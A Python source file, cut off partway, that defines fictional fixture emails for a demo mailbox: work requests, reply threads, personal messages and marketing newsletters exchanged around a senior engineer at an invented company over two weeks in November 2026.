"""The demo mailbox's content: two weeks (6-20 November 2026) of Alex Morgan's mail.

Alex is a senior engineer at Northwind Labs working on "Harbor", a reporting pipeline
whose biggest customer is Bluefin Logistics. Every name, company and domain is invented;
all addresses use the reserved example.com / example.org / example.net domains.

Messages are grouped by kind below; ``build.py`` writes them to the mbox in date order.
"""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from textwrap import dedent

from beacon.demo.files import simple_pdf, sunset_png
from beacon.demo.spec import Attachment, DemoMessage, Person

# --- time zones (November: no daylight saving anywhere here) -------------------
PST = timezone(timedelta(hours=-8))  # San Francisco: Alex, Sam, Tom, Jordan, Nina
CST = timezone(timedelta(hours=-6))  # Chicago: Maria, Ravi
EST = timezone(timedelta(hours=-5))  # New York: Priya; Alex's parents in Boston
MST = timezone(timedelta(hours=-7))  # Denver: an outdoor shop
UTC = timezone.utc  # London, Lisbon and most bulk senders
CET = timezone(timedelta(hours=1))  # Lyon, Berlin


def _at(stamp: str, tz: timezone) -> datetime:
    return datetime.fromisoformat(stamp).replace(tzinfo=tz)


def _t(body: str) -> str:
    """Dedent a triple-quoted body and end it with exactly one newline."""
    return dedent(body).strip("\n") + "\n"


# --- people ------------------------------------------------------------------------
ALEX = Person("Alex Morgan", "alex.morgan@example.com")
ALEX_HOME = Person("Alex Morgan", "alex.m@example.net")
PRIYA = Person("Priya Shah", "priya.shah@example.com")  # Alex's manager, VP Engineering
SAM = Person("Sam Whitfield", "sam.whitfield@example.com")
TOM = Person("Tom Becker", "tom.becker@example.com")
JORDAN = Person("Jordan Lee", "jordan.lee@example.com")
NINA = Person("Nina Kowalski", "nina.kowalski@example.com")
MARIA = Person("Maria Santos", "maria.santos@example.com")
RAVI = Person("Ravi Menon", "ravi.menon@example.com")
ALL_STAFF = Person("Northwind Labs - All Staff", "all-staff@example.com")
ENG_LIST = Person("Northwind Engineering", "engineering@lists.example.com")
DANIEL = Person("Daniel Okafor", "daniel.okafor@example.org")  # client, Bluefin Logistics
LENA = Person("Lena Fischer", "lena.fischer@example.org")  # Daniel's colleague
CAMILLE = Person("Camille Dubois", "camille.dubois@example.net")  # partner in Lyon
KYLE = Person("Kyle Brennan", "kyle.brennan@tracewell.example.net")
CHRIS = Person("Chris Tanaka", "chris.tanaka@example.net")  # friend
LINDA = Person("Linda Morgan", "linda.morgan@example.net")  # Alex's mother
EMMA = Person("Emma Morgan", "emma.morgan@example.net")  # Alex's sister

ALEX_SIGNATURE = "-- \nAlex Morgan\nSenior Software Engineer, Northwind Labs\n"


# --- shapes shared by bulk and machine-sent mail -----------------------------------
def _auto_headers(mailer: str, *extra: tuple[str, str]) -> tuple[tuple[str, str], ...]:
    """Headers of machine-sent transactional mail (RFC 3834 Auto-Submitted)."""
    return (("Auto-Submitted", "auto-generated"), ("X-Mailer", mailer), *extra)


# Table-based marketing HTML: inline styles, a hidden preheader and an open-tracking pixel.
_BULK_HTML = _t(
    """
    <!DOCTYPE html>
    <html lang="en">
    <head>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <title>{subject}</title>
    <style>
      body {{ margin: 0; padding: 0; background: #f4f4f7; font-family: Helvetica, Arial, sans-serif; }}
      .wrap {{ max-width: 600px; margin: 0 auto; background: #ffffff; }}
      .hero {{ background: {colour}; color: #ffffff; padding: 32px 24px; }}
      .hero h1 {{ margin: 0; font-size: 26px; }}
      .content {{ padding: 24px; color: #333333; font-size: 15px; line-height: 1.5; }}
      .button {{ display: inline-block; padding: 12px 22px; background: {colour};
                 color: #ffffff !important; text-decoration: none; border-radius: 4px; }}
      .footer {{ padding: 16px 24px; color: #888888; font-size: 12px; }}
      @media (max-width: 620px) {{ .content {{ padding: 16px; }} }}
    </style>
    </head>
    <body>
    <span style="display:none;max-height:0;overflow:hidden;">{preheader}</span>
    <table role="presentation" class="wrap" width="100%" cellpadding="0" cellspacing="0">
      <tr><td class="hero"><h1>{brand}</h1></td></tr>
      <tr><td class="content">
    {body}
      </td></tr>
      <tr><td class="footer">
        You are receiving this email because you signed up at {brand}.<br>
        <a href="{unsubscribe}">Unsubscribe</a> &middot; <a href="{unsubscribe}?prefs=1">Email preferences</a><br>
        {brand}, 100 Example Way, Suite 5, Springfield
      </td></tr>
    </table>
    <img src="{pixel}" width="1" height="1" alt="" style="display:block;border:0;">
    </body>
    </html>
    """
)


def _newsletter(
    *,
    key: str,
    date: datetime,
    sender: Person,
    to: Person,
    subject: str,
    list_name: str,
    token: str,
    colour: str,
    preheader: str,
    body: str,
    text: str | None = None,
    html_in_alternative: bool = False,
    extra: tuple[tuple[str, str], ...] = (),
) -> DemoMessage:
    """A bulk message as an ESP sends it: RFC 2369 list headers with RFC 8058 one-click
    unsubscribe, and table-based HTML with inline styles, a hidden preheader and an open
    pixel. ``body`` is the HTML of the content cell; ``text`` an optional plain twin."""
    host = sender.domain
    unsubscribe = f"https://{host}/unsubscribe/{token}"
    html = _BULK_HTML.format(
        subject=subject,
        colour=colour,
        preheader=preheader,
        brand=sender.name,
        body=_t(body),
        unsubscribe=unsubscribe,
        pixel=f"https://{host}/open/{token}.gif",
    )
    headers = (
        ("List-Id", f"{list_name} <{key}.{host}>"),
        ("List-Unsubscribe", f"<{unsubscribe}>, <mailto:unsubscribe@{host}?subject={token}>"),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ("Precedence", "bulk"),
        ("Return-Path", f"<bounce-{token}@{host}>"),
        *extra,
    )
    return DemoMessage(
        key=key,
        kind="newsletter",
        date=date,
        sender=sender,
        to=(to,),
        subject=subject,
        text=_t(text) if text else None,
        html=html,
        html_in_alternative=html_in_alternative,
        headers=headers,
    )


Q3_BUDGET_CSV = _t(
    """
    Department,Line item,Q3 budget (USD),Q3 actual (USD),Variance (USD),Notes
    Engineering,Cloud hosting,84000,91250,-7250,Traffic spike in August
    Engineering,CI minutes,12000,10980,1020,
    Engineering,Contractors,45000,45000,0,
    Engineering,Software licences,18500,19940,-1440,Two extra IDE seats
    Engineering,Conferences & training,9000,6120,2880,
    Design,Research incentives,4000,3650,350,
    Design,Software licences,6200,6200,0,
    Operations,Office & facilities,27000,26410,590,
    Total,,205700,209550,-3850,
    """
)

INVOICE_PDF = simple_pdf(
    [
        "Hostwise, Inc.",
        "Invoice INV-2026-1107",
        "Invoice date: 7 November 2026",
        "Billed to: Alex Morgan, Northwind Labs",
        "",
        "Team plan, 3 seats, 7 Nov 2026 - 6 Dec 2026        USD 48.00",
        "Tax                                                USD  0.00",
        "Total paid                                         USD 48.00",
        "",
        "Paid by Visa ending 4242 on 7 November 2026. Thank you for your business.",
    ]
)

CALENDAR_INVITE = _t(
    """
    BEGIN:VCALENDAR
    PRODID:-//Northwind Labs//Northwind Calendar 2.1//EN
    VERSION:2.0
    CALSCALE:GREGORIAN
    METHOD:REQUEST
    BEGIN:VEVENT
    DTSTART:20261123T180000Z
    DTEND:20261123T190000Z
    DTSTAMP:20261118T180000Z
    ORGANIZER;CN=Priya Shah:mailto:priya.shah@example.com
    UID:q4-planning-review-20261123@example.com
    ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
     TRUE;CN=Alex Morgan:mailto:alex.morgan@example.com
    ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
     TRUE;CN=Sam Whitfield:mailto:sam.whitfield@example.com
    ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;CN=Priya
      Shah:mailto:priya.shah@example.com
    SUMMARY:Q4 planning review
    LOCATION:Room 4B / https://meet.example.com/q4-planning
    DESCRIPTION:Walk through the Q4 roadmap and staffing. Please bring your tea
     m's top three risks.
    SEQUENCE:0
    STATUS:CONFIRMED
    TRANSP:OPAQUE
    END:VEVENT
    END:VCALENDAR
    """
)


# --- direct work requests, each with a deadline ----------------------------------
WORK_REQUESTS: tuple[DemoMessage, ...] = (
    DemoMessage(
        key="priya-q3-numbers",
        kind="work-request",
        date=_at("2026-11-16 08:47:12", EST),
        sender=PRIYA,
        to=(ALEX,),
        subject="Q3 delivery numbers for the board deck",
        deadline="by Friday",
        text=_t(
            """
            Hi Alex,

            The board meeting moved up to December 1st, so I'm putting the deck
            together this week. Could you send me the updated Q3 delivery numbers
            by Friday? I mainly need on-time delivery for the Harbor releases,
            the incident count, and mean time to recovery for the quarter.

            Also, do we have a churn figure for Bluefin yet, or is that still
            waiting on Ravi's renewal conversation? If it's not ready, just tell
            me and I'll leave a placeholder.

            Thanks,
            Priya

            Priya Shah
            VP Engineering, Northwind Labs
            """
        ),
    ),
    DemoMessage(
        key="daniel-export-urgent",
        kind="work-request",
        date=_at("2026-11-17 10:05:41", UTC),
        sender=DANIEL,
        to=(ALEX,),
        cc=(LENA,),
        subject="Urgent: November report export failing",
        deadline="before 3pm tomorrow",
        headers=(("X-Mailer", "Microsoft Outlook 16.0"), ("Importance", "high")),
        text=_t(
            """
            Hi Alex,

            Since this morning every attempt to export the November operations
            report from Harbor fails with "Export job timed out (code 504)". It
            worked fine last week and nothing has changed on our side as far as I
            know. We've tried three times, with both the CSV and the PDF export.

            This is urgent for us: our regional managers use the report in the
            quarterly ops review on Thursday morning. Could you or someone on your
            team look at it ASAP, and ideally have it working before 3pm tomorrow
            (UK time)? If a fix will take longer, is there a way to get the raw
            data out in the meantime?

            Many thanks,
            Daniel

            --
            Daniel Okafor
            Head of Operations Analytics | Bluefin Logistics
            +44 20 7946 0321
            """
        ),
    ),
    DemoMessage(
        key="sam-pr-review",
        kind="work-request",
        date=_at("2026-11-19 11:20:05", PST),
        sender=SAM,
        to=(ALEX,),
        subject="Review for #317 (bounded ingestion queues)?",
        deadline="before EOD",
        text=_t(
            """
            Hey Alex,

            I just requested your review on #317. It's the change that replaces
            the unbounded worker queues with bounded ones and adds backpressure
            when the exporter falls behind, i.e. the real fix for what bit Bluefin
            on Tuesday.

            Could you take a look before EOD? I'd like to merge tonight so it
            goes out with tomorrow's 2.4 release. The interesting part is
            ingest/queue.py; the rest is mostly renaming and tests. One thing
            I'm unsure about: is 500 a sane default queue size, or should it
            scale with the worker count?

            Cheers,
            Sam
            """
        ),
    ),
    DemoMessage(
        key="maria-q3-budget",
        kind="work-request",
        date=_at("2026-11-18 14:02:33", CST),
        sender=MARIA,
        to=(ALEX,),
        cc=(PRIYA,),
        subject="Q3 budget reconciliation - engineering lines",
        deadline="by Nov 24",
        attachments=(Attachment("Q3-budget.csv", "text/csv", Q3_BUDGET_CSV.encode()),),
        text=_t(
            """
            Hi Alex,

            I'm closing the Q3 books and attached the reconciliation for
            engineering and design (Q3-budget.csv). Overall we came in about
            $3,850 over, almost all of it cloud hosting.

            Could you check the engineering lines and confirm the numbers by
            Nov 24? Two things I couldn't work out from the invoices:

            1. Was the August hosting overage a one-off (the traffic spike), or
               should I plan for it in the Q4 forecast?
            2. Should the two extra IDE seats move to the design budget? Jordan
               mentioned they're for the new contractors.

            Thank you!
            Maria

            Maria Santos | Finance Manager | Northwind Labs
            """
        ),
    ),
    DemoMessage(
        key="jordan-mockups",
        kind="work-request",
        date=_at("2026-11-13 16:45:19", PST),
        sender=JORDAN,
        to=(ALEX,),
        subject="Feedback on the new onboarding mockups?",
        deadline="by next Tuesday",
        text=_t(
            """
            Hi Alex,

            I hope your week wasn't too hectic! I've finished a first pass at the
            new onboarding flow for Harbor, the one that walks a new customer
            through connecting their first data source:
            https://design.example.com/files/harbor-onboarding-v3

            No rush at all, but could you share your feedback by next Tuesday?
            I'm mostly wondering whether the "test connection" step asks for
            anything the backend can't actually check yet. Comments straight in
            the file are perfect.

            Thanks so much, I really appreciate you making time for this.

            Jordan
            """
        ),
    ),
    DemoMessage(
        key="nina-self-assessment",
        kind="work-request",
        date=_at("2026-11-16 09:30:00", PST),
        sender=NINA,
        to=(ALEX,),
        subject="Reminder: your self-assessment for the H2 review",
        deadline="within two days",
        text=_t(
            """
            Hi Alex,

            A quick reminder that your self-assessment for the H2 performance
            review is still open in Lattice Lane. Could you submit it within two
            days? Calibration sessions start on Thursday and your manager needs a
            little time to read it first.

            It doesn't need to be long: three or four highlights, one area you
            want to grow in, and anything you'd like Priya to know. If you're
            stuck, the guide on the wiki has examples:
            https://wiki.example.com/people/h2-review-guide

            Thanks!
            Nina

            Nina Kowalski
            People Operations, Northwind Labs
            """
        ),
    ),
    DemoMessage(
        key="ravi-rate-limits",
        kind="work-request",
        date=_at("2026-11-18 15:10:47", CST),
        sender=RAVI,
        to=(ALEX,),
        subject="Quick question on API rate limits for a prospect",
        deadline="by Thursday",
        text=_t(
            """
            Hi Alex,

            Quick one: I'm on a call with Pinecrest Freight tomorrow afternoon and
            their CTO is asking about our API limits. They'd be pulling around
            2 million rows a day through the export API.

            Two questions:
            - What's the current rate limit per API key, and can we raise it for
              an enterprise contract?
            - Do we support incremental exports, or would they have to pull the
              full dataset each time?

            Could you get back to me by Thursday? Even rough answers help, I can
            follow up with the details later.

            Thanks a lot,
            Ravi
            """
        ),
    ),
    DemoMessage(
        key="tom-release-signoff",
        kind="work-request",
        date=_at("2026-11-20 08:05:52", PST),
        sender=TOM,
        to=(ALEX,),
        cc=(SAM,),
        subject="URGENT: need your sign-off on the 2.4 release notes",
        deadline="ASAP",
        text=_t(
            """
            Alex,

            Sorry for the short notice. We're cutting the 2.4 release at noon and
            I still need your sign-off on the release notes, since you own the
            export changes. Draft is here:
            https://wiki.example.com/harbor/releases/2.4-draft

            Can you read it and reply "approved" (or send corrections) ASAP? If
            we miss the noon cut the release slips to Monday, and Bluefin is
            waiting on the export fix.

            Thanks,
            Tom
            """
        ),
    ),
    DemoMessage(
        key="tom-sync-notes",
        kind="work-request",
        date=_at("2026-11-09 12:05:30", PST),
        sender=TOM,
        to=(ALEX, SAM, JORDAN),
        cc=(PRIYA,),
        subject="Notes: Harbor weekly sync (Nov 9)",
        deadline="by Wednesday the 18th",
        text=_t(
            """
            Hi all,

            Notes from today's sync below. Shout if I missed anything.

            Decisions
            - 2.4 code freeze on Monday Nov 16, release on Friday Nov 20.
            - We keep the old CSV exporter behind a flag for one more release.

            Status
            - Ingestion rewrite is done; Sam is chasing one flaky load test.
            - Onboarding redesign: Jordan will share mockups by the end of the week.
            - Staging database migration is planned for Saturday (Sam will email).

            Action items
            - Sam: write up the staging migration plan and send it round.
            - Jordan: share the onboarding mockups for review.
            - Alex: update the on-call runbook for the new queue metrics
              by Wednesday the 18th.
            - Tom: draft the 2.4 release notes.

            Next sync: Monday Nov 16, 11:30.

            Tom
            """
        ),
    ),
)


# --- threads: the client's export failure, and the staging migration plan ---------
WORK_THREADS: tuple[DemoMessage, ...] = (
    DemoMessage(
        key="alex-export-reply",
        kind="work-reply",
        date=_at("2026-11-17 07:40:02", PST),
        sender=ALEX,
        to=(DANIEL,),
        cc=(LENA, SAM),
        subject="Re: Urgent: November report export failing",
        parent="daniel-export-urgent",
        text=_t(
            """
            Hi Daniel,

            Thanks for the clear report, and sorry about this. I'm looking at it
            now and I've pulled Sam in as well. Could you send me the job ID of
            one of the failed exports? It's shown under "Export history" in the
            report settings.

            In the meantime, the raw data is available through the API
            (/v2/reports/november/rows), so Lena's team can get at it if needed.
            I'll update you by the end of the day either way.

            Best,
            Alex
            """
        )
        + ALEX_SIGNATURE,
    ),
    DemoMessage(
        key="daniel-export-jobid",
        kind="work-reply",
        date=_at("2026-11-17 16:22:10", UTC),
        sender=DANIEL,
        to=(ALEX,),
        cc=(LENA, SAM),
        subject="RE: Urgent: November report export failing",
        parent="alex-export-reply",
        headers=(("X-Mailer", "Microsoft Outlook 16.0"),),
        text=_t(
            """
            Thanks Alex, much appreciated. The most recent job ID is
            exp-20261117-0932-7f41. Lena also saw it fail at 14:10 with the
            same error.

            Good to know about the API, we'll use that as a fallback.

            Daniel
            """
        ),
    ),
    DemoMessage(
        key="alex-export-fixed",
        kind="work-reply",
        date=_at("2026-11-18 06:55:44", PST),
        sender=ALEX,
        to=(DANIEL,),
        cc=(LENA, SAM),
        subject="Re: Urgent: November report export failing",
        parent="daniel-export-jobid",
        text=_t(
            """
            Hi Daniel,

            Good news: it's fixed. The November report is the first one with
            more than a million rows, and the exporter was building the whole
            file in memory before streaming it, which hit the 60-second gateway
            timeout. We deployed a hotfix last night that streams the export in
            chunks, and job exp-20261117-0932-7f41 completed on a rerun in
            41 seconds.

            The permanent fix (bounded queues with backpressure) ships in 2.4 on
            Friday. Sorry again for the disruption, and good luck with the
            review on Thursday.

            Best,
            Alex
            """
        )
        + ALEX_SIGNATURE,
    ),
    DemoMessage(
        key="sam-migration-plan",
        kind="work-request",
        date=_at("2026-11-10 13:15:27", PST),
        sender=SAM,
        to=(ALEX, TOM),
        subject="Plan for Saturday's staging DB migration",
        deadline="by Thursday",
        text=_t(
            """
            Hi both,

            Here's the plan for moving staging to the new Postgres cluster on
            Saturday, as promised at the sync.

            1. 09:00 put staging in maintenance mode and stop the workers
            2. 09:10 final logical dump of harbor_staging (about 40 GB)
            3. 10:30 restore into pg-staging-2 and run the 2.4 migrations
            4. 11:30 switch the connection string, start workers, smoke tests
            5. 12:00 out of maintenance mode

            Expected downtime is about three hours, and nothing customer-facing
            depends on staging. Could you both read through it and flag anything
            by Thursday? I'd especially like a second opinion on step 3: the
            2.4 migrations have never run against a database this size.

            Sam
            """
        ),
    ),
    DemoMessage(
        key="tom-migration-reply",
        kind="work-reply",
        date=_at("2026-11-10 14:02:58", PST),
        sender=TOM,
        to=(SAM,),
        cc=(ALEX,),
        subject="Re: Plan for Saturday's staging DB migration",
        parent="sam-migration-plan",
        text=_t(
            """
            Looks good to me. One question: what's the rollback if the 2.4
            migrations fail halfway through step 3? Do we just point staging back
            at the old cluster?

            I can run the smoke tests at 11:30, I'll be online anyway.

            Tom
            """
        ),
    ),
    DemoMessage(
        key="alex-migration-reply",
        kind="work-reply",
        date=_at("2026-11-10 16:31:09", PST),
        sender=ALEX,
        to=(SAM, TOM),
        subject="Re: Plan for Saturday's staging DB migration",
        parent="tom-migration-reply",
        text=_t(
            """
            Plan looks solid. On Tom's question: let's take a snapshot of the old
            cluster right after step 1 and keep it untouched until Monday, so the
            rollback is just switching the connection string back.

            For step 3, I'd run the migrations with lock_timeout set to 10s so a
            stuck lock fails fast instead of hanging. I'm on call this weekend
            anyway, so page me if anything looks off.

            Alex
            """
        )
        + ALEX_SIGNATURE,
    ),
    DemoMessage(
        key="sam-migration-final",
        kind="work-reply",
        date=_at("2026-11-11 09:05:16", PST),
        sender=SAM,
        to=(ALEX, TOM),
        subject="Re: Plan for Saturday's staging DB migration",
        parent="alex-migration-reply",
        text=_t(
            """
            Great, thanks both. I've added the snapshot step and the lock_timeout
            to the runbook. We're good to go for Saturday at 9.

            Sam
            """
        ),
    ),
)


# --- other work mail: thanks, announcements, Cc-only, a mailing list, French -------
WORK_OTHER: tuple[DemoMessage, ...] = (
    DemoMessage(
        key="priya-launch-thanks",
        kind="work-fyi",
        date=_at("2026-11-06 17:30:48", EST),
        sender=PRIYA,
        to=(ALEX, SAM, TOM, JORDAN),
        subject="Great work on the Harbor 2.3 launch",
        text=_t(
            """
            Hi all,

            I wanted to say a proper thank you before the weekend. Harbor 2.3 went
            out on Wednesday without a single rollback, and Bluefin's ops team
            told me this morning that their nightly reports now finish before
            their analysts log in. That's a direct result of the work you all put
            into the ingestion rewrite.

            Special thanks to Sam and Alex for the late nights on the queue fix,
            and to Jordan for turning the new status page around in a week.

            Enjoy the weekend, you've earned it.

            Priya

            Priya Shah
            VP Engineering, Northwind Labs
            """
        ),
    ),
    DemoMessage(
        key="nina-office-closed",
        kind="work-fyi",
        date=_at("2026-11-06 11:02:15", PST),
        sender=NINA,
        to=(ALL_STAFF,),
        subject="Office closed Nov 26-27, and a team lunch on the 25th",
        text=_t(
            """
            Hi everyone,

            A couple of dates for your calendars:

            - The office is closed on Thursday and Friday, November 26-27, for
              Thanksgiving. Those are company holidays, no need to book them.
            - We're having a team lunch on Wednesday the 25th at 12:30 at
              Harbor Street Kitchen. Partners and kids are welcome.

            There's nothing you need to do; dietary requirements from the
            summer party are already on file.

            Nina
            People Operations
            """
        ),
    ),
    DemoMessage(
        key="priya-renewal-cc",
        kind="work-fyi",
        date=_at("2026-11-18 09:12:37", EST),
        sender=PRIYA,
        to=(RAVI,),
        cc=(ALEX,),
        subject="Bluefin renewal: pricing approach",
        text=_t(
            """
            Hi Ravi,

            Following our chat yesterday: for the Bluefin renewal let's hold the
            current per-seat price and offer the higher export limits as part of
            the enterprise tier rather than discounting. Given this week's export
            incident, I'd also add a one-month service credit as a goodwill
            gesture. You have my approval for that.

            Alex, copying you so you have the context if Daniel raises it. No
            action needed on your side.

            Priya
            """
        ),
    ),
    DemoMessage(
        key="list-code-freeze",
        kind="mailing-list",
        date=_at("2026-11-13 10:00:03", PST),
        sender=SAM,
        to=(ENG_LIST,),
        subject="[engineering] Harbor 2.4 code freeze starts Monday",
        headers=(
            ("Sender", "engineering <engineering-bounces@lists.example.com>"),
            ("List-Id", "Northwind Engineering <engineering.lists.example.com>"),
            ("List-Post", "<mailto:engineering@lists.example.com>"),
            ("List-Archive", "<https://lists.example.com/archives/engineering/>"),
            ("List-Help", "<mailto:engineering-request@lists.example.com?subject=help>"),
            (
                "List-Unsubscribe",
                "<https://lists.example.com/options/engineering>, "
                "<mailto:engineering-request@lists.example.com?subject=unsubscribe>",
            ),
            ("Precedence", "list"),
            ("X-BeenThere", "engineering@lists.example.com"),
            ("Return-Path", "<engineering-bounces@lists.example.com>"),
        ),
        text=_t(
            """
            Hi all,

            A reminder that the code freeze for Harbor 2.4 starts on Monday,
            November 16. From then on, only bug fixes with a linked ticket go into
            the release branch; everything else waits for 2.5.

            The release itself is planned for Friday the 20th. If you have
            something that really must make it in, talk to Tom or me before
            Monday morning.

            Thanks,
            Sam

            _______________________________________________
            engineering mailing list
            engineering@lists.example.com
            https://lists.example.com/listinfo/engineering
            """
        ),
    ),
    DemoMessage(
        key="camille-lyon-meeting",
        kind="work-request",
        date=_at("2026-11-09 10:17:26", CET),
        sender=CAMILLE,
        to=(ALEX,),
        subject="Réunion à Lyon : propositions de dates",
        deadline="avant vendredi",
        charset="iso-8859-1",
        headers=(("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Thunderbird/128.4.0"),),
        text=_t(
            """
            Bonjour Alex,

            J'espère que vous allez bien et que le lancement de Harbor 2.3 s'est
            bien passé.

            Comme convenu lors de notre appel, nous aimerions organiser une
            réunion à Lyon pour préparer l'intégration de vos tableaux de bord
            dans notre atelier. Voici les dates que nous proposons :

              - mardi 1er décembre, de 10 h à 16 h ;
              - jeudi 3 décembre, de 9 h 30 à 15 h ;
              - vendredi 4 décembre, matinée uniquement.

            Pourriez-vous me confirmer la date qui vous convient le mieux avant
            vendredi ? Je réserverai ensuite la salle et l'hôtel près de la gare
            Part-Dieu pour votre équipe.

            N'hésitez pas à me dire si vous avez des contraintes particulières
            (accès, matériel, régime alimentaire). Nous serons ravis de vous
            accueillir !

            Bien cordialement,

            Camille Dubois
            Responsable des opérations
            Atelier Lumière, Lyon
            """
        ),
    ),
    DemoMessage(
        key="tracewell-cold",
        kind="cold-outreach",
        date=_at("2026-11-17 11:26:09", EST),
        sender=KYLE,
        to=(ALEX,),
        subject="Quick intro: pipeline observability for Northwind",
        headers=(("X-Mailer", "Outreachly"),),
        text=_t(
            """
            Hi Alex,

            I noticed Northwind Labs is hiring data engineers, which usually means
            the pipelines are growing faster than the dashboards that watch them.

            Tracewell gives teams like yours end-to-end lineage and freshness
            alerts for every job in about ten minutes of setup. Companies similar
            to yours cut their incident response time by 43% in the first month.

            Do you have 15 minutes next week for a quick demo? Here's my calendar
            if that's easier: https://tracewell.example.net/meet/kyle

            Best,
            Kyle Brennan
            Account Executive, Tracewell

            If this isn't relevant, just reply "no thanks" and I won't follow up.
            """
        ),
    ),
)


# --- friends and family --------------------------------------------------------------
PERSONAL: tuple[DemoMessage, ...] = (
    DemoMessage(
        key="chris-hike",
        kind="personal",
        date=_at("2026-11-11 19:42:55", PST),
        sender=CHRIS,
        to=(ALEX_HOME,),
        subject="Hike on Saturday?",
        deadline="by Thursday night",
        text=_t(
            """
            Hey Alex!

            Are you free this Saturday? The forecast finally looks dry and I was
            thinking of doing the Dipsea loop from Mill Valley, maybe 4-5 hours
            with a lunch stop. Mika might come too.

            Let me know by Thursday night so I can grab a parking permit.

            Chris
            """
        ),
    ),
    DemoMessage(
        key="alex-hike-reply",
        kind="personal",
        date=_at("2026-11-12 07:15:31", PST),
        sender=ALEX_HOME,
        to=(CHRIS,),
        subject="Re: Hike on Saturday?",
        parent="chris-hike",
        quote_style="apple",
        headers=(("X-Mailer", "iPhone Mail (22B91)"),),
        text=_t(
            """
            I'm in! I'm on call for a database migration in the morning, so could
            we start around 12:30 instead? Should be wrapped up by then. I'll
            bring sandwiches.

            Sent from my iPhone
            """
        ),
    ),
    DemoMessage(
        key="chris-hike-final",
        kind="personal",
        date=_at("2026-11-12 08:01:12", PST),
        sender=CHRIS,
        to=(ALEX_HOME,),
        subject="Re: Hike on Saturday?",
        parent="alex-hike-reply",
        text=_t(
            """
            12:30 works. I'll pick you up at noon. Permit's booked!
            """
        ),
    ),
    DemoMessage(
        key="mom-thanksgiving",
        kind="personal",
        date=_at("2026-11-10 19:48:03", EST),
        sender=LINDA,
        to=(ALEX_HOME,),
        cc=(EMMA,),
        subject="Thanksgiving plans",
        deadline="by Sunday",
        text=_t(
            """
            Hi sweetheart,

            Dad and I are so happy you're both coming home for Thanksgiving! Are
            you flying in on Wednesday or Thursday morning? Dad wants to plan the
            airport run, and I need to know whether to make up the guest room for
            Wednesday night.

            Could you let me know by Sunday? And tell me if there's anything you
            want me to cook. Emma has already asked for the sweet potato pie.

            Love you,
            Mom
            """
        ),
    ),
    DemoMessage(
        key="emma-lisbon-photos",
        kind="personal",
        date=_at("2026-11-08 11:02:40", UTC),
        sender=EMMA,
        to=(ALEX_HOME,),
        subject="Photos from Lisbon!",
        headers=(("X-Mailer", "Apple Mail (2.3774.200.91)"),),
        attachments=(Attachment("tagus-sunset.png", "image/png", sunset_png(), "tagus-sunset@example.net"),),
        text=_t(
            """
            Hi Alex,

            Greetings from Lisbon! The conference finished on Friday so I stayed
            for the weekend. This was the sunset over the Tagus from the
            Miradouro last night. Photo doesn't do it justice.

            I'll be back on Tuesday. Call me this week? I want to hear how the
            launch went.

            Emma x
            """
        ),
        html=_t(
            """
            <html><head><meta charset="utf-8"></head>
            <body style="font-family: -apple-system, Helvetica, sans-serif;">
            <div>Hi Alex,</div><div><br></div>
            <div>Greetings from Lisbon! The conference finished on Friday so I stayed
            for the weekend. This was the sunset over the Tagus from the Miradouro last
            night. Photo doesn't do it justice.</div><div><br></div>
            <div><img src="cid:tagus-sunset@example.net" alt="Sunset over the Tagus"
            width="320" height="200"></div><div><br></div>
            <div>I'll be back on Tuesday. Call me this week? I want to hear how the
            launch went.</div><div><br></div>
            <div>Emma x</div>
            </body></html>
            """
        ),
    ),
)


# --- newsletters and marketing ------------------------------------------------------
NEWSLETTERS: tuple[DemoMessage, ...] = (
    _newsletter(
        key="weekly-stack",
        date=_at("2026-11-07 06:00:00", UTC),
        sender=Person("The Weekly Stack", "digest@news.example.net"),
        to=ALEX,
        subject="The Weekly Stack #212: queues, backpressure and the cost of retries",
        list_name="The Weekly Stack",
        token="ws212-a7f3k",
        colour="#1f6feb",
        preheader="Queues, backpressure and the cost of retries.",
        extra=(("Feedback-ID", "ws212:weekly-stack:sendwave"), ("X-Mailer", "Sendwave 3.1")),
        text="""
            THE WEEKLY STACK, issue #212

            This week: why your retries are a denial-of-service attack on yourself,
            a gentle introduction to backpressure, and Postgres 18's new I/O.

            1. Retries considered harmful (sometimes)
               Exponential backoff with jitter, retry budgets, and why the
               default client settings in most SDKs make outages longer.
               https://news.example.net/r/212-1

            2. Backpressure, explained with a kitchen
               A very readable tour of bounded queues and load shedding.
               https://news.example.net/r/212-2

            3. Asynchronous I/O in Postgres 18: first benchmarks
               https://news.example.net/r/212-3

            Unsubscribe: https://news.example.net/unsubscribe/ws212-a7f3k
            """,
        body="""
            <p>This week: why your retries are a denial-of-service attack on yourself,
            a gentle introduction to backpressure, and Postgres 18's new I/O.</p>
            <h2><a href="https://news.example.net/r/212-1">Retries considered harmful (sometimes)</a></h2>
            <p>Exponential backoff with jitter, retry budgets, and why the default client
            settings in most SDKs make outages longer.</p>
            <h2><a href="https://news.example.net/r/212-2">Backpressure, explained with a kitchen</a></h2>
            <p>A very readable tour of bounded queues and load shedding.</p>
            <h2><a href="https://news.example.net/r/212-3">Asynchronous I/O in Postgres 18: first benchmarks</a></h2>
            <p><img src="https://news.example.net/img/212-chart.png" width="540" alt="Benchmark chart"></p>
            """,
    ),
    _newsletter(
        key="trailhead-deals",
        date=_at("2026-11-09 07:30:00", MST),
        sender=Person("Trailhead Outfitters", "deals@mail.trailhead.example.com"),
        to=ALEX_HOME,
        subject="Early access: 30% off winter layers (ends Sunday)",
        list_name="Trailhead Outfitters Deals",
        token="th-88213-xq",
        colour="#2e7d32",
        preheader="Members get first pick before Black Friday. Ends Sunday at midnight.",
        extra=(("X-Campaign", "winter-early-access-2026"),),
        body="""
            <p>Hi Alex,</p>
            <p>As a Trailhead member you get early access to our biggest sale of the year:
            <strong>30% off insulated jackets, fleeces and base layers</strong>, before it
            opens to everyone on Black Friday.</p>
            <p><img src="https://mail.trailhead.example.com/img/winter-hero.jpg" width="552"
            alt="Hikers in the snow"></p>
            <p>Use code <strong>EARLYLAYERS</strong> at checkout. Offer ends Sunday at midnight
